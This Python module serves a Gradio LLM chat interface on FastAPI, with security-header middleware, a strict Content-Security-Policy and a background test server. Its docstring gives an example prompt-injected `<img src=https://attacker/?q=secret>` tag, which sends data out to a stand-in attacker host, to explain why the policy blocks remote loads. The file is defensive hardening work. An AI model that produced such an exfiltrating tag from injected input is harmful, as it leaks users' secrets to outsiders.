"""One HTTP server: the Gradio app mounted on a FastAPI app, behind security headers.

    app = create_app(settings, auth=check_password)      # a FastAPI app; serve it with uvicorn
    with BackgroundServer(app) as server:                # tests and benchmarks: a free port
        Client(server.url)

Other routes (a plain HTTP/SSE API, a no-JS page) can be added to the same FastAPI app. The
Content-Security-Policy keeps model output from loading remote images (a prompt-injected
`<img src=https://attacker/?q=secret>` would otherwise leak data) or anything else remote.
"""

from __future__ import annotations

import threading
import time
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from typing import Any

import gradio as gr
import uvicorn
from fastapi import FastAPI
from starlette.types import ASGIApp, Message, Receive, Scope, Send

from llmtool.settings import Settings
from llmtool.ui.blocks import CSS, build_demo, context_of
from llmtool.ui.context import UIContext

CONTENT_SECURITY_POLICY = "; ".join([
    "default-src 'self'",
    "img-src 'self' data: blob:",
    "media-src 'self' data: blob:",
    "font-src 'self' data:",
    # Gradio's page bootstraps with inline scripts and styles.
    "script-src 'self' 'unsafe-inline'",
    "style-src 'self' 'unsafe-inline'",
    "connect-src 'self'",
    "frame-src 'none'",
    "object-src 'none'",
    "base-uri 'self'",
    "form-action 'self'",
    "frame-ancestors 'self'",
])
META_POLICY = CONTENT_SECURITY_POLICY.replace("; frame-ancestors 'self'", "")
SECURITY_HEADERS = {
    "content-security-policy": CONTENT_SECURITY_POLICY,
    "x-content-type-options": "nosniff",
    "referrer-policy": "no-referrer",
}
Auth = Callable[[str, str], bool]


class SecurityHeaders:
    """Pure ASGI middleware (never buffers, so SSE streams pass straight through)."""

    def __init__(self, app: ASGIApp) -> None:
        self.app = app
        self.headers = [(k.encode(), v.encode()) for k, v in SECURITY_HEADERS.items()]

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return

        async def send_with_headers(message: Message) -> None:
            if message["type"] == "http.response.start":
                present = {name.lower() for name, _ in message.get("headers", [])}
                extra = [(k, v) for k, v in self.headers if k not in present]
                message = {**message, "headers": [*message.get("headers", []), *extra]}
            await send(message)

        await self.app(scope, receive, send_with_headers)


def page_options() -> dict[str, Any]:
    """What both `mount_gradio_app` and `Blocks.launch` (reload mode) get."""
    return dict(
        css=CSS,
        # Also as a meta tag, for `gradio app.py` reload mode where our middleware is not in place
        # (frame-ancestors is header-only).
        head=f'<meta http-equiv="Content-Security-Policy" content="{META_POLICY}">',
        footer_links=["api"],
        run_history=False,
        show_error=False,  # never show exception text in the page; handlers say what went wrong
        ssr_mode=False,
        mcp_server=False,
        max_file_size="10mb",  # Evaluate's dataset upload; larger files are refused before they land
    )


def create_app(
    settings: Settings | None = None,
    *,
    demo: gr.Blocks | None = None,
    auth: Auth | None = None,
) -> FastAPI:
    """The FastAPI app serving the chat tab at `/`; closes the service on shutdown."""
    if demo is None:
        demo = build_demo(UIContext(settings))
    context = context_of(demo)

    @asynccontextmanager
    async def lifespan(_: FastAPI) -> AsyncIterator[None]:
        context.warm_up()
        try:
            yield
        finally:
            await context.aclose()

    app = FastAPI(lifespan=lifespan, docs_url=None, redoc_url=None, openapi_url=None)
    app.add_middleware(SecurityHeaders)
    ui = context.settings.ui
    return gr.mount_gradio_app(
        app, demo, path="/", auth=auth, server_name=ui.host, server_port=ui.port, **page_options()
    )


class BackgroundServer:
    """uvicorn serving `app` in a daemon thread: `with BackgroundServer(app) as s: s.url`."""

    def __init__(self, app: ASGIApp, host: str = "127.0.0.1", port: int = 0) -> None:
        config = uvicorn.Config(
            app, host=host, port=port, log_level="warning", lifespan="on", timeout_graceful_shutdown=0.5,  # type: ignore[arg-type]  # typed int, used as asyncio.wait_for's float timeout
        )
        self.server = uvicorn.Server(config)
        self.host = host
        self._thread = threading.Thread(target=self.server.run, name="llmtool-ui", daemon=True)

    @property
    def port(self) -> int:
        return int(self.server.servers[0].sockets[0].getsockname()[1])

    @property
    def url(self) -> str:
        return f"http://{self.host}:{self.port}"

    def start(self, timeout: float = 20.0) -> BackgroundServer:
        self._thread.start()
        deadline = time.monotonic() + timeout
        while not self.server.started:
            if not self._thread.is_alive():
                raise RuntimeError(f"the server could not start on {self.host} (see the log above)")
            if time.monotonic() > deadline:
                self.stop()
                raise RuntimeError(f"the server did not start on {self.host} within {timeout:g} s")
            time.sleep(0.01)
        return self

    def stop(self) -> None:
        # Open streams (a client's heartbeat) get half a second, then the app shuts down cleanly.
        self.server.should_exit = True
        self._thread.join(timeout=10)

    def __enter__(self) -> BackgroundServer:
        return self.start()

    def __exit__(self, *exc: object) -> None:
        self.stop()
